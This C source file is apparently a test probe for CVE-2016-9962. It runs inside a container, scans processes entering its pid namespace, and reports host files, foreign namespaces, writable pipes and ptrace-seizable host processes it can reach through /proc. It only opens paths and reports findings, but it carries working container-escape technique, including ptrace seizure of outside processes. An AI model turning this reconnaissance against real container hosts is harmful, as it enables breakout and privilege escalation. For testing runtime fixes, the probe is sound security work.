/* The attacker of CVE-2016-9962: looks at every process that enters its pid namespace, and reports what it can reach
 * through it that is not the container's. Opens with O_PATH only and writes nothing anywhere.
 *
 *   scan STOPFILE CANARY [ptrace]
 *
 * runs until STOPFILE exists (at most 120 seconds). CANARY is the absolute path of a file that exists on the host only.
 * One line per finding: "KIND PID WHERE DETAIL", with these kinds:
 *   host     the canary can be opened through this process
 *   outside  a file or directory of a mount that is not in this mount namespace
 *   ns       a descriptor of a namespace that is not this process's
 *   pipe     the writing end of a pipe that is not one of descriptors 0-2
 *   exe      the executable is outside, and can be opened
 *   seized   PTRACE_SEIZE worked on a process whose executable (WHERE) is outside; DETAIL is its effective capabilities
 * and at the end "done foreign=N denied=N": processes seen, and those whose links this process was not allowed to follow. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static unsigned long long mounts[4096];
static int mount_count;
static const char *canary;
static int foreign, denied, last_foreign, last_denied;

static void load_mounts(void)
{
    FILE *table = fopen("/proc/self/mountinfo", "r");
    char line[8192];
    mount_count = 0;
    while (table && mount_count < 4096 && fgets(line, sizeof line, table))
        mounts[mount_count++] = strtoull(line, NULL, 10);
    if (table)
        fclose(table);
}

/* Whether the file's mount is one of this mount namespace. */
static int is_inside(int fd)
{
    struct statx st;
    if (statx(fd, "", AT_EMPTY_PATH, STATX_MNT_ID, &st))
        return 1;
    for (int i = 0; i < mount_count; i++)
        if (mounts[i] == st.stx_mnt_id)
            return 1;
    return 0;
}

__attribute__((format(printf, 1, 2))) static void report(const char *format, ...)
{
    static char seen[256][256];
    static int count;
    char line[256];
    va_list list;
    va_start(list, format);
    vsnprintf(line, sizeof line, format, list);
    va_end(list);
    for (int i = 0; i < count; i++)
        if (!strcmp(seen[i], line))
            return;
    if (count == 256)
        return;
    strcpy(seen[count++], line);
    puts(line);
    fflush(stdout);
}

/* Whether the canary can be reached from this directory: down from it, and down from the top above it. */
static int reaches_host(int dir)
{
    int found = openat(dir, canary + 1, O_PATH | O_NOFOLLOW | O_CLOEXEC);
    int at = dup(dir);
    for (int depth = 0; found < 0 && at >= 0 && depth < 64; depth++) {
        struct stat here, above;
        int up = openat(at, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
        int top = up < 0 || fstat(at, &here) || fstat(up, &above) ||
                  (here.st_dev == above.st_dev && here.st_ino == above.st_ino && is_inside(at) == is_inside(up));
        close(at);
        at = up;
        if (at >= 0)
            found = openat(at, canary + 1, O_PATH | O_NOFOLLOW | O_CLOEXEC);
        if (top)
            break;
    }
    if (at >= 0)
        close(at);
    if (found >= 0)
        close(found);
    return found >= 0;
}

static void look_at_directory(int pid, const char *where, int fd, const char *target)
{
    if (reaches_host(fd))
        report("host %d %s %s", pid, where, target);
    if (!is_inside(fd))
        report("outside %d %s %s", pid, where, target);
}

static void look_at_link(int pid, const char *where)
{
    char path[64], target[160] = "";
    snprintf(path, sizeof path, "/proc/%d/%s", pid, where);
    int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0) {
        if ((errno == EACCES || errno == EPERM) && pid != last_denied) {
            last_denied = pid;
            denied++;
        }
        return;
    }
    if (readlink(path, target, sizeof target - 1) < 0)
        strcpy(target, "?");
    look_at_directory(pid, where, fd, target);
    close(fd);
}

static void look_at_descriptor(int pid, const char *name)
{
    char path[64], target[160] = "", where[16];
    struct stat st;
    snprintf(where, sizeof where, "fd/%.8s", name);
    snprintf(path, sizeof path, "/proc/%d/%s", pid, where);
    if (readlink(path, target, sizeof target - 1) < 0)
        return;
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    if (fstat(fd, &st)) {
        close(fd);
        return;
    }
    int standard = atoi(name) <= 2;
    if (S_ISDIR(st.st_mode)) {
        look_at_directory(pid, where, fd, target);
    } else if (S_ISFIFO(st.st_mode) && !standard) {
        int end = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
        if (end >= 0) {
            report("pipe %d %s %s", pid, where, target);
            close(end);
        }
    } else if (S_ISREG(st.st_mode) && !standard) {
        char *colon = strchr(target, ':');
        if (colon && target[0] != '/') { /* "mnt:[4026531841]" and its like: a namespace */
            char own[64], mine[160] = "";
            snprintf(own, sizeof own, "/proc/self/ns/%.*s", (int)(colon - target), target);
            if (readlink(own, mine, sizeof mine - 1) > 0 && strcmp(mine, target))
                report("ns %d %s %s", pid, where, target);
        } else if (strncmp(target, "/memfd:", 7) && !is_inside(fd)) {
            report("outside %d %s %s", pid, where, target);
        }
    }
    close(fd);
}

/* 1: outside, 0: inside, -1: not allowed to know. */
static int exe_is_outside(int pid)
{
    char path[64], target[160] = "?";
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return -1;
    int outside = !is_inside(fd);
    if (outside && readlink(path, target, sizeof target - 1) > 0)
        report("exe %d exe %s", pid, target);
    close(fd);
    return outside;
}

static void look_at_process(int pid)
{
    char path[64];
    look_at_link(pid, "root");
    look_at_link(pid, "cwd");
    exe_is_outside(pid);
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *dir = opendir(path);
    struct dirent *entry;
    while (dir && (entry = readdir(dir)))
        if (entry->d_name[0] != '.')
            look_at_descriptor(pid, entry->d_name);
    if (dir)
        closedir(dir);
}

static void seize(int pid)
{
    if (ptrace(PTRACE_SEIZE, pid, 0, 0))
        return;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    int stopped = 0;
    /* It stops or ends, on a busy machine after a while. Given up too early, it would stop later, and for ever. */
    for (int i = 0; i < 50000 && !stopped; i++) {
        int status;
        if (waitpid(pid, &status, __WALL | WNOHANG) == pid) {
            if (!WIFSTOPPED(status))
                return;
            stopped = 1;
        } else {
            usleep(100);
        }
    }
    if (stopped && exe_is_outside(pid) != 0) {
        char path[64], line[256], capabilities[64] = "?", target[128] = "?";
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        if (readlink(path, target, sizeof target - 1) < 0)
            strcpy(target, "?");
        snprintf(path, sizeof path, "/proc/%d/status", pid);
        FILE *status = fopen(path, "r");
        while (status && fgets(line, sizeof line, status))
            sscanf(line, "CapEff: %63s", capabilities);
        if (status)
            fclose(status);
        report("seized %d %s %s", pid, target, capabilities);
        look_at_process(pid);
    }
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

int main(int argc, char **argv)
{
    if (argc < 3)
        return 2;
    canary = argv[2];
    int tracing = argc > 3, self = getpid();
    time_t end = time(NULL) + 120;
    signal(SIGPIPE, SIG_IGN);
    load_mounts();
    puts("scanning");
    fflush(stdout);
    DIR *proc = opendir("/proc");
    if (!proc)
        return 3;
    for (unsigned round = 0; access(argv[1], F_OK) && time(NULL) < end; round++) {
        struct dirent *entry;
        rewinddir(proc);
        while ((entry = readdir(proc))) {
            int pid = atoi(entry->d_name);
            if (pid <= 0 || pid == self)
                continue;
            if (pid > last_foreign) {
                last_foreign = pid;
                foreign++;
            }
            if (tracing && round % 2)
                seize(pid);
            else
                look_at_process(pid);
        }
    }
    printf("done foreign=%d denied=%d\n", foreign, denied);
    return 0;
}
